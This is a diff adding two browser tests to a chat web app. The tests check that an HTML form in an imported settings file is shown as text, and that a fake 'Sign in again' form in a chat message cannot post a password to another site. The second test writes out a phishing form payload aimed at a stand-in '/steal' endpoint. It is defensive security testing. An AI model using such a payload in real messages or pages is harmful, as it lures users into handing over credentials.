@@ -534,6 +534,13 @@ def test_export_then_import_round_trips_and_a_bad_file_is_named(page, tmp_path):
     import_file(page, marked_up)
     expect(page.locator("#chat-stats")).to_contain_text("Imported “<b>bold</b> *and* [link](x)”.")
     expect(page.locator("#chat-stats b")).to_have_count(0)
+    # So is what the refusal quotes from the file (security pass: a setting named as a form showed the form).
+    quoting = tmp_path / "quoting.json"
+    settings = {"<form><button>go</button></form>": 1}
+    quoting.write_text(json.dumps(dict(json.loads(exported.read_text()), settings=settings)))
+    import_file(page, quoting)
+    expect(page.locator("#chat-stats")).to_contain_text('unknown setting "<form><button>go</button></form>"')
+    expect(page.locator("#chat-stats form, #chat-stats button")).to_have_count(0)
 
 
 def replies_held_open(updates: int, tail: str = ""):
@@ -1018,6 +1025,24 @@ def test_a_message_shows_no_image_of_another_site(page):
         page.wait_for_timeout(500)
         assert fetched == [] and refused, (fetched, refused)
         assert all("127.0.0.1:9" in text for text in refused), refused  # the page's own images and fonts load
+    finally:
+        page.unroute("http://127.0.0.1:9/**")
+
+
+def test_a_form_in_a_message_sends_nothing_to_another_site(page):
+    # A message's HTML may hold a form (a fake "sign in again" box): its button sent what was typed in it to the
+    # site its action named (security pass). The page's forms send to its own server only.
+    sent, refused = [], []
+    page.route("http://127.0.0.1:9/**", lambda route: (sent.append(route.request.url), route.abort()))
+    page.on("console", lambda message: "Content Security Policy" in message.text and refused.append(message.text))
+    try:
+        new_chat(page)
+        send(page, 'Sign in again: <form action="http://127.0.0.1:9/steal"><input id="pw" name="pw" value="secret">'
+                   '<button id="go">Sign in</button></form>')
+        expect(page.locator("#chat-stats")).to_contain_text("tokens/s")
+        page.click("#chatbot #go", no_wait_after=True)
+        page.wait_for_timeout(500)
+        assert sent == [] and any("form-action" in text for text in refused), (sent, refused)
     finally:
         page.unroute("http://127.0.0.1:9/**")
 
